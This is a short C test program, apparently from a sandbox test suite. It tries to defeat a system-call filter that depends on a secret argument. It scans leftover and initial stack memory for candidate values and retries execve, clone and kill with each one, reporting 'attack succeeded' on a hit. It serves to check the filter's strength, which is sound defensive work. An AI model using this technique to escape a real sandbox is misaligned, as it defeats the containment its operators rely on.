// Purpose: guesses the secret argument of the filter: the initial stack and what lies unused below it.
// Expected: AC at full and at confined
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/syscall.h>
#include <unistd.h>

static int holes;

// No denial answers EFAULT: that is the kernel behind the filter. Leave to signal the parent tells as much.
static void guess(const char *where, unsigned long secret) {
    long flags = CLONE_VM | CLONE_VFORK | CLONE_PIDFD | SIGCHLD;
    int passed = (syscall(SYS_execve, NULL, NULL, NULL, secret, secret, secret) == -1 && errno == EFAULT)
              || (syscall(SYS_clone, flags, NULL, NULL, NULL, secret, secret) == -1 && errno == EFAULT)
              || syscall(SYS_kill, (long)getppid(), 0L, secret, secret, secret, secret) == 0;
    if (passed && holes++ == 0)
        fprintf(stderr, "attack succeeded: the filter took %#lx from %s\n", secret, where);
}

extern void *__libc_stack_end;

static void scan(const char *where, const char *from, const char *to) {
    for (; from + 8 <= to; from += 4) {
        unsigned long word;
        memcpy(&word, from, sizeof word);
        if (word)
            guess(where, word);
    }
}

int main(void) {
    const char *start = __libc_stack_end, *file = (const char *)getauxval(AT_EXECFN);
    // Never written by this program: whatever stood here before would still be here.
    scan("unused stack", start - 65536, start - 4096);
    scan("the initial stack", start, file ? file + strlen(file) : start + 1024);
    puts(holes ? "99" : "4");
    return 0;
}
